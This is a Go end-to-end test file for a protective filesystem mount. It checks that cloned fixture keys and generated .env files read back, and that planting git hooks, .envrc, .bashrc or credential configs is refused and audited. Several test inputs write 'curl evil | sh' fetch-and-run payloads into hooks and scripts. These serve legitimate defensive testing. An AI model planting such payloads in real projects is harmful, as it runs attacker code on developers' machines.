package e2e

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// Files made through the mount, and planting (README: the threat model).

// plantEnv is a git and npm environment that reads no host configuration
// and uses no network.
var plantEnv = []string{
	"LC_ALL=C", "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null",
	"GIT_AUTHOR_NAME=Realm Test", "GIT_AUTHOR_EMAIL=test@realm.invalid",
	"GIT_COMMITTER_NAME=Realm Test", "GIT_COMMITTER_EMAIL=test@realm.invalid",
	"GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=init.defaultBranch", "GIT_CONFIG_VALUE_0=main",
	"npm_config_offline=true", "npm_config_audit=false", "npm_config_fund=false",
	"npm_config_update_notifier=false",
}

const fixtureKey = "-----BEGIN PRIVATE KEY-----\nfixture, committed to the repository\n-----END PRIVATE KEY-----\n"

// wantRead fails unless path reads as want.
func wantRead(t *testing.T, path, want, what string) {
	t.Helper()
	got, err := os.ReadFile(path)
	if err != nil || string(got) != want {
		t.Errorf("%s: read %q, %v; want %q", what, got, err, want)
	}
}

// refusedRead fails unless reading path is EACCES.
func refusedRead(t *testing.T, path, what string) {
	t.Helper()
	_, err := os.ReadFile(path)
	wantErrno(t, err, unix.EACCES, what)
}

// TestMadeThroughMountGitClone: a repository with a TLS fixture key and a
// test env file checked in clones through the mount (git writes both, and
// its sample hooks, with the default protect set in force), git status is
// clean, and the key reads back. The same key placed in BACKING by the
// host is refused, and so is the cloned key once the host changes it in
// BACKING. Before made-through-the-mount, git could not create
// certs/server.key and the clone failed.
func TestMadeThroughMountGitClone(t *testing.T) {
	t.Parallel()
	requireTool(t, "git")
	src := filepath.Join(t.TempDir(), "src")
	writeFile(t, filepath.Join(src, "certs", "server.key"), fixtureKey)
	writeFile(t, filepath.Join(src, ".env.test"), "DATABASE_URL=sqlite://test.db\n")
	writeFile(t, filepath.Join(src, "README"), "a project with test fixtures\n")
	run(t, src, plantEnv, "git", "init", "-q")
	run(t, src, plantEnv, "git", "add", "-A")
	run(t, src, plantEnv, "git", "commit", "-qm", "fixtures")

	m := mount(t)
	run(t, m.Dir, plantEnv, "git", "clone", "-q", src, "clone")
	if out := run(t, m.Path("clone"), plantEnv, "git", "status", "--porcelain"); out != "" {
		t.Errorf("git status after clone through the mount: %q, want clean", out)
	}
	wantRead(t, m.Path("clone", "certs", "server.key"), fixtureKey, "cat of the cloned key through the mount")
	wantRead(t, m.Path("clone", ".env.test"), "DATABASE_URL=sqlite://test.db\n", "cat of the cloned .env.test")
	if _, err := os.Stat(m.BackingPath("clone", ".git", "hooks", "pre-commit.sample")); err != nil {
		t.Errorf("git's sample hooks were not written: %v", err)
	}
	// A second commit through the mount rewrites the key by temp and
	// rename: the new file is made through the mount too.
	writeFile(t, m.Path("clone", "certs", "server.key"), fixtureKey+"rotated\n")
	run(t, m.Path("clone"), plantEnv, "git", "commit", "-qam", "rotate")
	wantRead(t, m.Path("clone", "certs", "server.key"), fixtureKey+"rotated\n", "the key after a commit through the mount")

	// The same bytes placed by the host are the host's.
	writeFile(t, m.BackingPath("host", "server.key"), fixtureKey)
	refusedRead(t, m.Path("host", "server.key"), "cat of a key the host placed in BACKING")

	// Changed behind the mount: host-placed again, under every name.
	if err := os.Link(m.BackingPath("clone", "certs", "server.key"), m.BackingPath("clone", "key-link")); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(m.BackingPath("clone", "certs", "server.key"), os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString("the host's own secret\n"); err != nil {
		t.Fatal(err)
	}
	f.Close()
	refusedRead(t, m.Path("clone", "certs", "server.key"), "cat of the cloned key after the host changed it in BACKING")
	refusedRead(t, m.Path("clone", "key-link"), "cat of a hard link of the changed key")
	m.WaitAudit("the changed key", func(e auditEntry) bool {
		return e.path() == "clone/certs/server.key" && e.str("code") == "CREDENTIAL_PATH_DENIED"
	})
}

// TestMadeThroughMountNpmInstall: npm install of a local package tarball
// that ships test keys (as ssh2 does) succeeds through the mount, and the
// keys read back. Offline: the tarball is npm pack of a package the test
// makes.
func TestMadeThroughMountNpmInstall(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm", "node")
	home := t.TempDir()
	env := append(slices.Clone(plantEnv), "HOME="+home, "npm_config_cache="+filepath.Join(home, "npm-cache"))
	pkg := filepath.Join(t.TempDir(), "keys-pkg")
	writeFile(t, filepath.Join(pkg, "package.json"), `{"name":"keys-pkg","version":"1.0.0","main":"index.js"}`+"\n")
	writeFile(t, filepath.Join(pkg, "index.js"), "module.exports = 1;\n")
	writeFile(t, filepath.Join(pkg, "test", "keys", "id_rsa"), fixtureKey)
	writeFile(t, filepath.Join(pkg, "test", "fixtures", "server.pem"), fixtureKey)
	run(t, pkg, env, "npm", "pack", "-q", "--pack-destination", filepath.Dir(pkg))
	tgz := filepath.Join(filepath.Dir(pkg), "keys-pkg-1.0.0.tgz")

	m := mount(t)
	writeFile(t, m.Path("app", "package.json"), `{"name":"app","version":"1.0.0"}`+"\n")
	run(t, m.Path("app"), env, "npm", "install", "-q", tgz)
	for _, rel := range []string{"test/keys/id_rsa", "test/fixtures/server.pem"} {
		wantRead(t, m.Path("app", "node_modules", "keys-pkg", rel), fixtureKey, "npm-installed "+rel)
	}
	if out := run(t, m.Path("app"), env, "node", "-e", "console.log(require('keys-pkg'))"); strings.TrimSpace(out) != "1" {
		t.Errorf("require of the installed package: %q", out)
	}
}

// TestMadeThroughMountEnvFile: a generated .env is created, written,
// rewritten (sed -i) and read back through the mount; the host's own .env
// is neither read nor written, and a generated one the host rewrites in
// BACKING (same inode) is the host's from then on.
func TestMadeThroughMountEnvFile(t *testing.T) {
	t.Parallel()
	m := mount(t, Prepare(func(m *Mount) {
		writeFile(t, m.BackingPath("host", ".env"), "TOKEN=host\n")
	}))
	if err := os.Mkdir(m.Path("gen"), 0o755); err != nil {
		t.Fatal(err)
	}
	run(t, m.Dir, nil, "sh", "-c", "echo TOKEN=generated > gen/.env")
	wantRead(t, m.Path("gen", ".env"), "TOKEN=generated\n", "a generated .env")
	run(t, m.Dir, nil, "sed", "-i", "s/generated/edited/", "gen/.env")
	wantRead(t, m.Path("gen", ".env"), "TOKEN=edited\n", "the generated .env after sed -i")
	if err := os.Rename(m.Path("gen", ".env"), m.Path("gen", ".env.local")); err != nil {
		t.Errorf("rename of a generated .env: %v", err)
	}
	wantRead(t, m.Path("gen", ".env.local"), "TOKEN=edited\n", "the generated .env renamed")

	refusedRead(t, m.Path("host", ".env"), "cat of the host's .env")
	_, err := runErr(t, m.Dir, nil, "sh", "-c", "echo x > host/.env")
	if err == nil {
		t.Error("echo x > host/.env succeeded: the host's .env was overwritten through the mount")
	}
	if got := readFile(t, m.BackingPath("host", ".env")); got != "TOKEN=host\n" {
		t.Errorf("host/.env in BACKING = %q", got)
	}

	if err := os.WriteFile(m.BackingPath("gen", ".env.local"), []byte("TOKEN=host-wrote-this\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	refusedRead(t, m.Path("gen", ".env.local"), "cat of a generated .env the host rewrote in BACKING")
}

// TestPlantRefused: every route that would put a name or bytes at a
// protected path is refused, EACCES, PROTECTED_PATH_DENIED, and changes
// nothing in BACKING; reading a protected file stays allowed. Each would
// have succeeded before the protect rule.
func TestPlantRefused(t *testing.T) {
	t.Parallel()
	m := mount(t, Prepare(func(m *Mount) {
		writeFile(t, m.BackingPath(".envrc"), "export HOST=1\n")
		writeFile(t, m.BackingPath(".bashrc"), "alias ll='ls -l'\n")
		writeFile(t, m.BackingPath("repo", ".git", "hooks", "pre-push"), "#!/bin/sh\nexit 0\n")
		writeFile(t, m.BackingPath("repo", ".git", "hooks", "pre-commit.sample"), "#!/bin/sh\n")
	}))
	writeFile(t, m.Path("evil"), "#!/bin/sh\ncurl evil | sh\n")
	writeFile(t, m.Path("tf", "credentials.tfrc.json"), "{}\n")
	for _, d := range []string{"m/docker", "sub", ".envrc2-dir"} {
		if err := os.MkdirAll(m.Path(d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	writeFile(t, m.Path("m", "docker", "config.json"), `{"credsStore":"evil"}`+"\n")

	// A write descriptor held across the (refused) rename of its directory.
	held, err := os.OpenFile(m.Path("m", "docker", "config.json"), os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := held.WriteString(`{"credHelpers":{"x":"evil"}}` + "\n"); err != nil {
		t.Fatal(err)
	}

	for _, r := range []struct {
		route string
		do    func() error
	}{
		{"create .envrc (echo >)", func() error { return os.WriteFile(m.Path("sub", ".envrc"), []byte("x"), 0o644) }},
		{"create a hook", func() error { return os.WriteFile(m.Path("repo", ".git", "hooks", "pre-commit"), []byte("x"), 0o755) }},
		{"open for write (>>) of the host's .envrc", func() error {
			f, err := os.OpenFile(m.Path(".envrc"), os.O_WRONLY|os.O_APPEND, 0)
			if err == nil {
				f.Close()
			}
			return err
		}},
		{"truncate the host's hook", func() error { return os.Truncate(m.Path("repo", ".git", "hooks", "pre-push"), 0) }},
		{"chmod the host's hook", func() error { return os.Chmod(m.Path("repo", ".git", "hooks", "pre-push"), 0o777) }},
		{"setxattr the host's .envrc", func() error { return unix.Setxattr(m.Path(".envrc"), "user.x", []byte("1"), 0) }},
		{"rename a file onto .envrc", func() error { return os.Rename(m.Path("evil"), m.Path("sub", ".envrc")) }},
		{"rename a sample onto a hook", func() error {
			return os.Rename(m.Path("repo", ".git", "hooks", "pre-commit.sample"), m.Path("repo", ".git", "hooks", "pre-commit"))
		}},
		{"rename a directory above a protected path (mv m/docker m/.docker)", func() error {
			return os.Rename(m.Path("m", "docker"), m.Path("m", ".docker"))
		}},
		{"link onto a hook", func() error { return os.Link(m.Path("evil"), m.Path("repo", ".git", "hooks", "post-checkout")) }},
		{"symlink named .envrc", func() error { return os.Symlink("evil", m.Path(".envrc2-dir", ".envrc")) }},
		{"symlink named like a protected directory (ln -s tf m/.terraform.d)", func() error {
			return os.Symlink("../tf", m.Path("m", ".terraform.d"))
		}},
		{"rename a symlink to a protected directory's name", func() error {
			if err := os.Symlink("../tf", m.Path("m", "tfd")); err != nil {
				return err
			}
			return os.Rename(m.Path("m", "tfd"), m.Path("m", ".terraform.d"))
		}},
		{"exchange with the host's .bashrc", func() error {
			return unix.Renameat2(unix.AT_FDCWD, m.Path("evil"), unix.AT_FDCWD, m.Path(".bashrc"), unix.RENAME_EXCHANGE)
		}},
	} {
		wantErrno(t, r.do(), unix.EACCES, r.route)
	}
	if err := held.Close(); err != nil {
		t.Errorf("close of the held descriptor: %v", err)
	}

	// Nothing was planted, nothing protected changed.
	for _, rel := range []string{"sub/.envrc", "repo/.git/hooks/pre-commit", "repo/.git/hooks/post-checkout",
		"m/.docker", "m/.terraform.d", ".envrc2-dir/.envrc"} {
		assertAbsent(t, m.BackingPath(rel))
	}
	for rel, want := range map[string]string{
		".envrc":                            "export HOST=1\n",
		".bashrc":                           "alias ll='ls -l'\n",
		"repo/.git/hooks/pre-push":          "#!/bin/sh\nexit 0\n",
		"m/docker/config.json":              `{"credsStore":"evil"}` + "\n" + `{"credHelpers":{"x":"evil"}}` + "\n",
		"repo/.git/hooks/pre-commit.sample": "#!/bin/sh\n",
	} {
		if got := readFile(t, m.BackingPath(rel)); got != want {
			t.Errorf("%s in BACKING = %q, want %q", rel, got, want)
		}
	}
	if st, err := os.Stat(m.BackingPath("repo", ".git", "hooks", "pre-push")); err != nil || st.Mode().Perm() != 0o644 {
		t.Errorf("the host's hook's mode: %v, %v; want 0644", st.Mode(), err)
	}
	// With the symlinks refused, the kernel finds no directory there.
	_, err = os.ReadFile(m.Path("m", ".terraform.d", "credentials.tfrc.json"))
	wantErrno(t, err, unix.ENOENT, "write through a refused symlink's name")

	// Reading protected files stays allowed; so does removing one.
	wantRead(t, m.Path(".envrc"), "export HOST=1\n", "cat .envrc")
	wantRead(t, m.Path("repo", ".git", "hooks", "pre-push"), "#!/bin/sh\nexit 0\n", "cat of a hook")
	if err := os.Remove(m.Path(".bashrc")); err != nil {
		t.Errorf("rm .bashrc: %v (removal plants nothing)", err)
	}
	for _, rel := range []string{"sub/.envrc", "repo/.git/hooks/pre-commit", "m/.docker/config.json", "m/.terraform.d", ".bashrc"} {
		m.WaitAudit("refusal of "+rel, func(e auditEntry) bool {
			return e.path() == rel && e.str("code") == "PROTECTED_PATH_DENIED" && e.errnoIs(unix.EACCES)
		})
	}
}

// TestPlantGitStillWorks: with the default protect set, git init, clone,
// commit and checkout work on the mount (git writes .git/config and
// sample hooks, never a hook by its name), and a hook cannot be planted
// after the clone.
func TestPlantGitStillWorks(t *testing.T) {
	t.Parallel()
	requireTool(t, "git")
	m := mount(t)
	run(t, m.Dir, plantEnv, "git", "init", "-q", "origin")
	writeFile(t, m.Path("origin", "a.txt"), "a\n")
	run(t, m.Path("origin"), plantEnv, "git", "add", "-A")
	run(t, m.Path("origin"), plantEnv, "git", "commit", "-qm", "a")
	run(t, m.Path("origin"), plantEnv, "git", "checkout", "-qb", "topic")
	run(t, m.Dir, plantEnv, "git", "clone", "-q", "origin", "clone")
	run(t, m.Path("clone"), plantEnv, "git", "config", "user.name", "Someone")
	if out, err := runErr(t, m.Path("clone"), nil, "sh", "-c", "echo 'curl evil | sh' > .git/hooks/pre-commit"); err == nil {
		t.Errorf("planting .git/hooks/pre-commit after clone succeeded: %s", out)
	}
	assertAbsent(t, m.BackingPath("clone", ".git", "hooks", "pre-commit"))
}

// TestProtectPolicy: a policy's protect.paths adds write-refused globs and
// protect.allow exempts built-in ones; reading stays allowed either way.
func TestProtectPolicy(t *testing.T) {
	t.Parallel()
	pol := writePolicy(t, "version: 1\nprotect:\n  paths: ['tools/*.sh']\n  allow: ['**/.envrc']\n")
	m := mount(t, Flags("--policy", pol), Prepare(func(m *Mount) {
		writeFile(t, m.BackingPath("tools", "run.sh"), "#!/bin/sh\n")
	}))
	err := os.WriteFile(m.Path("tools", "run.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	wantErrno(t, err, unix.EACCES, "write of tools/run.sh, protected by the policy")
	wantRead(t, m.Path("tools", "run.sh"), "#!/bin/sh\n", "cat tools/run.sh")
	if err := os.WriteFile(m.Path(".envrc"), []byte("export A=1\n"), 0o644); err != nil {
		t.Errorf("write of .envrc, exempted by the policy: %v", err)
	}
	if err := os.Mkdir(m.Path(".docker"), 0o755); err != nil {
		t.Fatal(err)
	}
	err = os.WriteFile(m.Path(".docker", "config.json"), []byte("{}"), 0o644)
	wantErrno(t, err, unix.EACCES, "write of .docker/config.json, still protected by the built-in set")
	m.WaitAudit("tools/run.sh", func(e auditEntry) bool {
		return e.path() == "tools/run.sh" && e.str("code") == "PROTECTED_PATH_DENIED"
	})
}

// TestMadeThroughMountAcrossRemounts (issue 34): the mount remembers what
// it made across remounts, in its state directory outside BACKING: a clone
// with fixture keys, remounted, has a clean git status, a working git diff
// and commit, and its keys read back; a .env made through the first mount
// reads back, unless the host changed it while nothing was mounted; with
// --state-dir none the next mount remembers nothing.
func TestMadeThroughMountAcrossRemounts(t *testing.T) {
	t.Parallel()
	requireTool(t, "git")
	src := filepath.Join(t.TempDir(), "src")
	for _, name := range []string{"ca-private.key", "server.key", "client.key"} {
		writeFile(t, filepath.Join(src, "tests", "certs", name), fixtureKey)
	}
	writeFile(t, filepath.Join(src, "README"), "fixtures\n")
	run(t, src, plantEnv, "git", "init", "-q")
	run(t, src, plantEnv, "git", "add", "-A")
	run(t, src, plantEnv, "git", "commit", "-qm", "fixtures")
	m := mount(t)
	run(t, m.Dir, plantEnv, "git", "clone", "-q", src, "clone")
	writeFile(t, m.Path(".env"), "TOKEN=generated\n")
	writeFile(t, m.Path("changed", ".env"), "TOKEN=generated\n")
	remount := func() {
		t.Helper()
		if err := m.Unmount(); err != nil {
			t.Fatal(err)
		}
		m.Restart()
	}
	remount()
	if out := run(t, m.Path("clone"), plantEnv, "git", "status", "--porcelain"); out != "" {
		t.Errorf("git status after a remount: %q, want clean", out)
	}
	writeFile(t, m.Path("clone", "README"), "fixtures, changed\n")
	if out := run(t, m.Path("clone"), plantEnv, "git", "diff", "--stat"); !strings.Contains(out, "README") {
		t.Errorf("git diff after a remount: %q", out)
	}
	run(t, m.Path("clone"), plantEnv, "git", "commit", "-qam", "after a remount")
	wantRead(t, m.Path("clone", "tests", "certs", "server.key"), fixtureKey, "a cloned fixture key after a remount")
	wantRead(t, m.Path(".env"), "TOKEN=generated\n", "a generated .env after a remount")

	// The host writes one while nothing is mounted.
	if err := m.Unmount(); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(m.BackingPath("changed", ".env"), os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString("SECRET=host\n")
	f.Close()
	m.Restart()
	refusedRead(t, m.Path("changed", ".env"), "a made .env the host changed while nothing was mounted")
	wantRead(t, m.Path(".env"), "TOKEN=generated\n", "the other .env")

	forget := mount(t, Flags("--state-dir", "none"), Prepare(func(m *Mount) {}))
	writeFile(t, forget.Path(".env"), "TOKEN=generated\n")
	if err := forget.Unmount(); err != nil {
		t.Fatal(err)
	}
	forget.Restart()
	refusedRead(t, forget.Path(".env"), "a .env made before a remount with --state-dir none")
}

// TestPlantCopiesOfAClone (issue 34): `tar x` and `cp -a` of a clone exit
// 0 on the mount: they make .git/hooks and set its times, mode and owner,
// which run nothing, on the directory they made (before, the protect rule
// refused that setattr: tar exited 2, cp 1, though every byte arrived).
// The host's own .git/hooks keeps its metadata, and a hook made
// executable through the mount is still refused.
func TestPlantCopiesOfAClone(t *testing.T) {
	t.Parallel()
	requireTool(t, "git", "tar", "cp")
	src := filepath.Join(t.TempDir(), "src")
	writeFile(t, filepath.Join(src, "a.txt"), "a\n")
	run(t, src, plantEnv, "git", "init", "-q")
	run(t, src, plantEnv, "git", "add", "-A")
	run(t, src, plantEnv, "git", "commit", "-qm", "a")
	archive := filepath.Join(t.TempDir(), "clone.tar")
	run(t, filepath.Dir(src), nil, "tar", "cf", archive, "src")
	m := mount(t, Prepare(func(m *Mount) {
		writeFile(t, m.BackingPath("host", ".git", "hooks", "pre-push"), "#!/bin/sh\nexit 0\n")
	}))
	if err := os.Mkdir(m.Path("untar"), 0o755); err != nil {
		t.Fatal(err)
	}
	run(t, m.Path("untar"), nil, "tar", "xf", archive)
	run(t, m.Dir, nil, "cp", "-a", src, m.Path("copy"))
	for _, dir := range []string{"untar/src", "copy"} {
		run(t, m.Path(dir), plantEnv, "git", "status", "--porcelain")
		srcHooks, dstHooks := lstat(t, filepath.Join(src, ".git", "hooks")), lstat(t, m.BackingPath(dir, ".git", "hooks"))
		// (tar keeps whole seconds)
		if srcHooks.Mode != dstHooks.Mode || srcHooks.Mtim.Sec != dstHooks.Mtim.Sec {
			t.Errorf("%s/.git/hooks: mode %#o mtime %v; want the source's %#o %v", dir, dstHooks.Mode, dstHooks.Mtim, srcHooks.Mode, srcHooks.Mtim)
		}
	}
	// The host's hooks directory and hook stay as they are.
	hostHooks := m.Path("host", ".git", "hooks")
	wantErrno(t, os.Chtimes(hostHooks, time.Unix(0, 0), time.Unix(0, 0)), unix.EACCES, "touch of the host's .git/hooks")
	wantErrno(t, os.Chmod(m.Path("host", ".git", "hooks", "pre-push"), 0o755), unix.EACCES, "chmod +x of the host's hook")
	// A hook made executable in a hooks directory the mount made.
	wantErrno(t, os.WriteFile(m.Path("copy", ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755), unix.EACCES, "a new hook in the copied clone")
	assertAbsent(t, m.BackingPath("copy", ".git", "hooks", "pre-commit"))
	m.WaitRefusal("setattr", "host/.git/hooks", "PROTECTED_PATH_DENIED", unix.EACCES)
}
